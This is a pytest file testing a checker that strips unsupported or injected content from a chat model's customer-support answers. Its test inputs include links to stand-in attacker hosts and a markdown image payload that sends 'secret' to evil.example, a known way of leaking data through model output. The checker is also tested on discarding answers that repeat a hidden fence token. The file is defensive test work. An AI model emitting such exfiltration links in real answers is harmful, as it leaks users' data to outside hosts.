"""What a chat model wrote is checked against the sources: unsupported sentences are cut."""

import pytest

from services.triage.recommend.check import check
from services.triage.recommend.compose import Passage

SOURCES = [
    Passage(
        "macro", "m1", "Card delivery", "Your card takes 5 working days. Track it in the app.", "en", 0.9
    ),
    Passage(
        "article",
        "a1",
        "Refunds",
        "A refund takes 10 days. See https://faro.test/refunds for more.",
        "en",
        0.8,
    ),
]


@pytest.mark.req(76)
@pytest.mark.hard("S-39")
def test_supported_sentences_stay_and_point_at_their_sources() -> None:
    checked = check("Your card takes 5 working days [1]. A refund takes 10 days. [2]", SOURCES)
    assert checked is not None
    assert checked.text == "Your card takes 5 working days. A refund takes 10 days."
    assert [(s.kind, s.index) for s in checked.sources] == [("macro", 1), ("article", 2)]
    assert [checked.text[s.start : s.end] for s in checked.spans] == [
        "Your card takes 5 working days.", "A refund takes 10 days.",
    ]  # fmt: skip
    assert checked.spans[1].quote == "A refund takes 10 days."


@pytest.mark.parametrize(
    "lie",
    [
        "Your card takes 2 working days [1].",
        "We have sent you a new phone as a present [1].",
        "Your card takes 5 working days.",
        "Your card takes 5 working days [7].",
        "Track it at https://evil.example/app [1].",
        "Track it in the app at evil.com [1].",
        "Your card takes 5 working days, [name] [1].",
    ],
)
@pytest.mark.hard("S-37")
def test_a_sentence_without_support_is_cut(lie: str) -> None:
    assert check(lie, SOURCES) is None
    kept = check(f"Track it in the app [1]. {lie}", SOURCES)
    assert kept is None or kept.text == "Track it in the app."


@pytest.mark.hard("S-39")
def test_images_and_markup_are_stripped_and_foreign_links_cut() -> None:
    checked = check("Track it in the app ![x](https://evil.example/?q=secret) <img src=x> [1].", SOURCES)
    assert checked is not None
    assert "evil" not in checked.text
    assert "<" not in checked.text
    own = check("A refund takes 10 days, see https://faro.test/refunds for more [2].", SOURCES)
    assert own is not None


def test_an_answer_that_repeats_the_fence_is_thrown_away() -> None:
    assert check("Your card takes 5 working days [1]. 0123abcd", SOURCES, "0123abcd") is None


def test_mostly_unsupported_is_thrown_away_whole() -> None:
    assert check("Track it in the app [1]. Wait for rain [1]. Sing loudly [2].", SOURCES) is None
